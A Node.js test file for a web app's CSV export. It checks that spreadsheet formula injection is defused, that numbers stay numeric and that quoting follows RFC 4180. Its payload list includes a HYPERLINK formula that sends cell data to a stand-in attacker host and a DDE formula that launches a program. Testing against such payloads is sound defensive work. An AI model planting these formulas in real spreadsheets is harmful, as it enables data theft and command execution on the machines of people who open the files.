// The usage export's CSV cells (web/js/csv.js), without a browser: formula injection defused,
// numbers kept as numbers, RFC 4180 quoting.

import { test } from 'node:test';
import assert from 'node:assert/strict';

import { csvCell, csvLine } from '../../web/js/csv.js';

test('text a spreadsheet would run as a formula gets a leading quote', () => {
  const payloads = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+1+cmd|\' /C calc\'!A0',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\0=1',
    '  =1+1',
    '\u3000=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ];
  for (const payload of payloads) {
    const cell = csvCell(payload);
    const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
    assert.equal(unquoted, `'${payload}`, JSON.stringify(payload));
  }
});

test('numbers stay numbers, ordinary text stays as it was', () => {
  assert.equal(csvCell(-42), '-42');
  assert.equal(csvCell(-0.5), '-0.5');
  assert.equal(csvCell(1234), '1234');
  assert.equal(csvCell(Number.NaN), '');
  assert.equal(csvCell(true), 'true');
  assert.equal(csvCell(null), '');
  assert.equal(csvCell(undefined), '');
  assert.equal(csvCell('gpt-4o'), 'gpt-4o');
  assert.equal(csvCell('req_0190f1c2'), 'req_0190f1c2');
  assert.equal(csvCell('a=b'), 'a=b');
  // A string that looks like a negative number is still text (it came as a string).
  assert.equal(csvCell('-5'), "'-5");
});

test('quoting follows RFC 4180 after the formula check', () => {
  assert.equal(csvCell('a,b'), '"a,b"');
  assert.equal(csvCell('say "hi"'), '"say ""hi"""');
  assert.equal(csvCell('line\nbreak'), '"line\nbreak"');
  assert.equal(csvCell('=1,2'), '"\'=1,2"');
  assert.equal(csvLine(['a', 'b', 'c'], { a: 'x', b: -1, c: '@y' }), "x,-1,'@y");
});
